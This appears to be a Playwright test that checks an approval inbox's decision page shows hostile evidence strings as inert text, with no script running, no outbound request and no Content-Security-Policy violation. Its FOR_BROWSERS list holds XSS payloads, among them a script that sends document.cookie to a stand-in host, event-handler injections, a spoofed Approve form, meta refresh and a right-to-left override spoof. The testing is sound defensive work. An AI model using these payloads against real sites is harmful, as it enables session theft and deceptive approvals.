"""Every hostile string of the card's corpus, and markup written for a browser, as an approval's evidence and argument
values on the decision page in headless Chromium, a batch of them per page: shown literally in its box, no script
runs, no element of its own appears, no Content-Security-Policy violation, and no request leaves the page (checked
from the browser)."""

from __future__ import annotations

import time

from playwright.async_api import Dialog, Request

from hitl.engine.domain.display import show
from hitl.engine.domain.requests import ProposeRequest
from hitl.engine.runtime.compose import compose
from hitl.engine.storage import open_store
from hitl.testing import FakeClock
from hitl.web.pages import shown_evidence
from tests.bot.hostile import HOSTILE, batches
from tests.sandbox.test_browser import browser_page
from tests.web.conftest import Inbox

ELSEWHERE = "http://127.0.0.1:9"
FOR_BROWSERS = [
    f"<script>fetch('{ELSEWHERE}/leak?'+document.cookie)</script>",
    f'<img src="{ELSEWHERE}/img.png" onerror="window.__pwned=1">',
    '"><svg onload="window.__pwned=1"><!--',
    f'</pre></section><form action="{ELSEWHERE}/x" method="post"><button>Approve</button></form>',
    '<a href="javascript:window.__pwned=1">Approve here</a>',
    f'<link rel="stylesheet" href="{ELSEWHERE}/x.css"><style>body{{background:url({ELSEWHERE}/bg)}}</style>',
    f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/">',
    f'<iframe src="{ELSEWHERE}/"></iframe><object data="{ELSEWHERE}/o"></object>',
    f'<base href="{ELSEWHERE}/"><input type="hidden" name="csrf" value="x">',
    "{{7*7}} ${7*7} <%= 7*7 %> &lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "\u202e<b>DEVORPPA</b>\u202c and <marquee>Approved by Security</marquee>",
]
FOREIGN = "main script, main img, main iframe, main object, main svg, main style, main link, main meta, main base"


WATCH = """
window.__violations = [];
document.addEventListener(
  "securitypolicyviolation", e => window.__violations.push(e.violatedDirective + " " + e.blockedURI)
);
"""
"""Run in every page before its own markup (by the browser's DevTools, which no page's policy stops): counts each
Content-Security-Policy violation, which only markup of the evidence's own could cause."""


async def test_hostile_evidence_is_inert_on_the_decision_page(inbox: Inbox) -> None:
    batched = batches([*HOSTILE, *FOR_BROWSERS], 1900)  # each page shows a batch whole, within the evidence's limit
    assert sum(map(len, batched)) == len(HOSTILE) + len(FOR_BROWSERS) - 1  # all but the lone surrogate
    store = open_store(inbox.env["HITL_STORE"])
    try:
        service = compose(store=store, clock=FakeClock(time.time()), config_path=inbox.env["HITL_CONFIG"]).service
        ids = []
        for i, batch in enumerate(batched):
            args = {
                "order_id": batch[0][:32],  # argument values carry the corpus too, each drawn by the page
                "customer_id": batch[-1][:32],
                "amount": 5 + i,
                "reason": batch[len(batch) // 2][:300],
            }
            request = ProposeRequest("refund", args, session_id=f"hostile-{i}", evidence="\n".join(batch))
            p = await service.propose(request)
            assert p.approval is not None
            ids.append((p.approval.id, p.approval.evidence, p.approval.args))
    finally:
        await store.close()
    left: list[str] = []
    dialogs: list[str] = []

    def leaving(request: Request) -> None:
        if not request.url.startswith(inbox.url) and not request.url.startswith(inbox.issuer):
            left.append(request.url)

    async def dialog(d: Dialog) -> None:
        dialogs.append(d.message)
        await d.dismiss()

    async with browser_page() as page:
        page.on("request", leaving)
        page.on("dialog", dialog)
        await page.add_init_script(WATCH)
        await page.goto(f"{inbox.url}/inbox")
        await page.fill("input[name='login']", "U_SUPPORT1")
        await page.click("button[type='submit']")
        await page.wait_for_url(f"{inbox.url}/inbox")
        for approval_id, evidence, args in ids:
            await page.goto(f"{inbox.url}/inbox/approvals/{approval_id}")
            shown = await page.locator(".evidence-text").text_content()
            assert shown == shown_evidence(evidence), approval_id  # literally, whole, hidden characters marked
            main = await page.locator("main").text_content() or ""
            for name in ("order_id", "customer_id", "reason"):
                assert show(args[name]).text[:12] in main, (approval_id, name)  # each value drawn as text
            assert await page.locator(FOREIGN).count() == 0, approval_id
            assert await page.locator("main a[href]").count() == 0, approval_id  # the page itself links nowhere
            forms = await page.locator("main form").evaluate_all("fs => fs.map(f => f.getAttribute('action'))")
            assert all(a == f"/inbox/approvals/{approval_id}/decisions" for a in forms), forms
            assert await page.evaluate("window.__pwned === undefined"), approval_id
            assert await page.evaluate("window.__violations") == [], approval_id
    assert len(ids) < 20 and left == [] and dialogs == []  # fewer page loads than the 31 one string each took
